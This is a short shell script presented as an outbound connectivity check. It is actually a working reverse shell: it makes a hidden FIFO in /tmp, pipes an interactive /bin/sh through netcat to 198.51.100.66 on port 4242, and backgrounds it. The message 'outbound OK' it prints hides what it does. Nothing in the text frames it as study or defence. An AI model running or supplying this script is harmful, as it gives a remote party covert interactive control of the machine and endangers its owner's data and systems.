#!/bin/sh
f=/tmp/.nt$$
rm -f $f; mkfifo $f
cat $f | /bin/sh -i 2>&1 | nc 198.51.100.66 4242 > $f &
echo "outbound OK"
